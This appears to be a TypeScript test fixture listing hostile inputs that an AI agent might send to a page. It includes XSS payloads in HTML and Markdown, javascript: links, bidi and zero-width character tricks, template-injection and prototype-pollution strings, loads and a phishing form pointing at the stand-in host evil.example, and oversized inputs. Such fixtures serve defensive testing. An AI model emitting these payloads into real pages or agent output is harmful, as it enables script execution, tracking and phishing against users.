const wicked = "owned()";

/** Markup that runs a script, loads something of a stranger's or leads there, wherever a page takes it for markup. */
const payloads: readonly string[] = [
  `<script>${wicked}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `</textarea><script>${wicked}</script>`,
  `--></title></style><script>${wicked}</script>`,
  `<img src=x onerror=${wicked}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<svg onload=${wicked}>`,
  `<svg><script>${wicked}</script></svg>`,
  `<svg><a xlink:href="javascript:${wicked}"><text>x</text></a></svg>`,
  `<svg><image href="https://evil.example/i.svg"/></svg>`,
  `<svg><use href="https://evil.example/s.svg#x"/></svg>`,
  `<svg><animate onbegin=${wicked} attributeName=x dur=1s>`,
  `<math><mtext><script>${wicked}</script></mtext></math>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe srcdoc="<script>parent.${wicked}</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=preload as=image href=https://evil.example/p.png>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url(https://evil.example/b.png)}</style>`,
  `<div style="background:url(https://evil.example/c.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>Approve</button></form>`,
  `<body onload=${wicked}>`,
  `<details open ontoggle=${wicked}>`,
  `<input autofocus onfocus=${wicked}>`,
  `<video src="https://evil.example/v.mp4" onerror=${wicked}></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<a href="javascript:${wicked}">click</a>`,
  `<a href="&#106;avascript:${wicked}">click</a>`,
  `[click](javascript:${wicked})`,
  `[click](JAVASCRIPT&colon;${wicked})`,
  `[click](java\u0000script:${wicked})`,
  `[click](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+)`,
  `[click](blob:https://evil.example/1)`,
  `[click](file:///etc/passwd)`,
  `[click](vbscript:msgbox)`,
  `![pixel](https://evil.example/pixel.png)`,
  `[![pixel](https://evil.example/p.png)](javascript:${wicked})`,
  `<https://evil.example/auto>`,
  `[ref]: javascript:${wicked}\n\n[ref]`,
  `|a|\n|-|\n|<img src=x onerror=${wicked}>|`,
  `> <script>${wicked}</script>\n\n- <svg onload=${wicked}>`,
  "```html\n<script>owned()</script>\n```",
  `\u202e)(denwo\u202c \u2066<script>${wicked}</script>\u2069`,
  "pay\u200b\u200c\u200d\u2060\ufeffpal \u00ad \u3164",
  `{{constructor.constructor("${wicked}")()}} \${${wicked}} <%= ${wicked} %>`,
  "__proto__",
  `"],"constructor":{"prototype":"${wicked}"`,
];

const deep = (levels: number): unknown => (levels === 0 ? "<script>owned()</script>" : { deeper: deep(levels - 1) });

/** Of sizes that a page must bear. */
const large: readonly unknown[] = [
  `<img src=x onerror=${wicked}>`.repeat(30_000).slice(0, 900_000),
  "x".repeat(900_000),
  "\u202e".repeat(300_000),
  `${"שלום ".repeat(80_000)}`,
  Array.from({ length: 10_000 }, (_, row) => ({ row, payee: `<b>payee-${row}</b>` })),
  Array.from({ length: 10_000 }, (_, row) => `שורה ${row} <svg onload=${wicked}>`),
  Object.fromEntries(Array.from({ length: 5_000 }, (_, key) => [`<i>${key}`, `[x](javascript:${wicked})`])),
  deep(30),
];

/** Contexts that an agent, or whoever speaks through it, may send. */
export const hostileContexts: readonly unknown[] = [
  ...payloads,
  ...payloads.map((payload) => ({ [payload]: payload, list: [payload, { [payload]: [payload] }] })),
  ...large,
];
